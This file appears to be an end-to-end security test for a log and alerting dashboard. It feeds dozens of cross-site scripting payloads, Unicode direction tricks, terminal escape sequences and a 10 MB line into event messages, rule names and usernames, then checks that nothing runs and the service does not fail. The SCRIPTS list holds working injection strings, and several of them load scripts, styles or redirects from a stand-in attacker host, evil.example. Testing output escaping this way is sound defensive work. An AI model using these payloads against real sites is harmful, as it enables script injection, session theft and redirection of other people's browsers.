import { broken, type Result } from '../case.ts'
import { Client } from '../http.ts'
import { TOKEN, type ServiceProcess } from '../service-process.ts'
import { onStage, registered, visit } from './browser.ts'
import { wasRun } from './in-page.ts'
import { PageApi } from './page-api.ts'
import { PAGES } from './pages.ts'
import { sendEvents } from './send.ts'

const CALL = 'globalThis.boom=alert(1)'
/** What would run if it were not shown as text: it opens a dialog and leaves a mark. */
const SCRIPTS = [
  `<script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, '<script src="https://evil.example/x.js"></script>', '<script type="module">import "https://evil.example/m.js"</script>', `"><script>${CALL}</script>`, `</script><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`, `<img src=x:x onerror="${CALL}">`, `<img/src/onerror=${CALL}>`, `<IMG SRC="javascript:${CALL}">`, '<img src="https://evil.example/pixel.png">', `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, `<image href=x onerror=${CALL}>`, `<picture><source srcset="https://evil.example/p"><img src=x onerror=${CALL}></picture>`,
  `<svg onload=${CALL}>`, `"><svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x">`, `<math><mtext></mtext><script>${CALL}</script></math>`, `<math><a xlink:href="javascript:${CALL}">x</a></math>`,
  `<iframe srcdoc="<script>parent.${CALL.slice(11)}</script>"></iframe>`, `<iframe src="javascript:${CALL}"></iframe>`, `<object data="javascript:${CALL}"></object>`, `<embed src="javascript:${CALL}">`, `<a href="javascript:${CALL}">x</a>`, `<form action="https://evil.example"><button autofocus onfocus=${CALL}>x</button></form>`, `<input autofocus onfocus=${CALL}>`, `<details open ontoggle=${CALL}>`, `<video><source onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`, `<body onload=${CALL}>`, `<marquee onstart=${CALL}>`,
  '<style>@import "https://evil.example/x.css"; *{display:none}</style>', '<link rel=stylesheet href="https://evil.example/x.css">', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">', `<template><script>${CALL}</script></template>`, `<x contenteditable onblur=${CALL}>`,
  `'-${CALL}-'`, `";${CALL};//`, '`' + '$' + `{${CALL}}` + '`', `{{constructor.constructor("${CALL}")()}}`, `javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`
]
/** Other writing, hidden signs, and what terminals obey. */
const SIGNS = ['\u202Egnp.exe\u202C', '\u2066\u0645\u0631\u062D\u0628\u0627\u2069 \u05E9\u05DC\u05D5\u05DD <b>x</b>', '\u0007\u001B[31mred\u001B[0m\u001B]0;title\u0007\b\b\b', '\u200B\u200D\uFEFF\u00AD', 'Z\u0351\u0352\u0353\u0354\u0355algo'.repeat(20), 'line\r\nline\u2028line\u2029line\vline', '\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67', 'a'.repeat(20_000), ' '.repeat(3_000)]
const LINE_BYTES = 10_000_000

/** Payloads as message, service, rule and user name, and a line of 10 MB: all of it is text, and the page stays usable. */
export function hostileText (): Promise<Result> {
  return onStage(async ({ open, complaints, service }) => {
    const { page } = await open()
    await registered(page)
    const api = new PageApi(page)
    const { rules, users } = await nameThings(api)
    await sendEvents(service, [...SCRIPTS, ...SIGNS].map((text) => ({ message: text, service: text.slice(0, 200), level: 'ERROR', meta: { [text.slice(0, 60)]: text.slice(0, 1_000) } })))
    const status = await sendLine(service)
    let shown = 0
    for (const path of [...PAGES, `/dashboard/alerts?rule=${rules[0]}`, `/dashboard/events?q=${encodeURIComponent(SCRIPTS[10] ?? '')}`]) {
      await visit(page, path)
      shown += await page.locator('.message').count()
    }
    await visit(page, '/dashboard/events')
    await page.locator('.rows .event .line').first().click()
    await page.getByRole('button', { name: 'Events around it' }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('combobox', { name: 'Filter' }).fill('message~marquee')
    await page.locator('.rows .message', { hasText: '<marquee onstart' }).waitFor()
    return {
      figures: { scripts: SCRIPTS.length, signs: SIGNS.length, rules: rules.length, 'users with such names': users, pages: PAGES.length + 2, 'rows seen': shown, 'line of 10 MB': status },
      faults: [...broken(
        [shown > 0, 'no row was seen'],
        [SCRIPTS.length >= 40, `${SCRIPTS.length} scripts are too few`],
        [status < 500, `the line of 10 MB is answered ${status}`],
        [!await wasRun(page), 'a payload ran']
      ), ...complaints]
    }
  })
}

/** Rules and users that bear such names, as far as the service takes them. Answers the ids of the rules. */
async function nameThings (api: PageApi): Promise<{ rules: string[], users: number }> {
  const rules: string[] = []
  let users = 0
  for (const text of [...SCRIPTS.slice(0, 12), ...SIGNS.slice(0, 4)]) {
    const { id } = await api.send<{ id: string }>('POST', '/rules', { name: text.slice(0, 200), signal: { events: 'level>=error' }, window: '5m', levels: { critical: { op: '>', value: 1 } }, labels: { team: text.slice(0, 200) }, annotations: { summary: text.slice(0, 1_000) } })
    rules.push(id)
  }
  for (const name of ['<img src=x onerror=alert(1)>', '\u202Enna', 'bob"><script>']) {
    if (await api.status('POST', '/users', { username: name, password: 'seven green lanterns 42', role: 'viewer' }) === 201) users++
  }
  return { rules, users }
}

async function sendLine (service: ServiceProcess): Promise<number> {
  const client = new Client(service.base, TOKEN)
  const { status } = await client.call({ method: 'POST', path: '/events', headers: { 'content-type': 'text/plain' }, body: 'x'.repeat(LINE_BYTES) })
  client.close()
  return status
}
